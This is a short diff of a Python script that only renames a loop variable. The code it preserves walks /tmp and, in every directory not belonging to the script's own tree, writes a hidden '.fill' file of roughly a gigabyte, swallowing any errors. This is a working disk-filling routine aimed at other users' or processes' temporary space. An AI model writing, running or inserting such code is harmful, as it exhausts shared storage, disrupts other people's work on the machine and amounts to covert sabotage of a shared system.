@@ -8,10 +8,10 @@
 import os
 
 own = os.path.dirname(os.getcwd())
-for place, _, _ in os.walk("/tmp"):
-    if place != "/tmp" and not place.startswith(own):
+for directory, _, _ in os.walk("/tmp"):
+    if directory != "/tmp" and not directory.startswith(own):
         try:
-            with open(place + "/.fill", "wb") as file:
+            with open(directory + "/.fill", "wb") as file:
                 for _ in range(250):
                     file.write(bytes(4 << 20))
         except OSError:
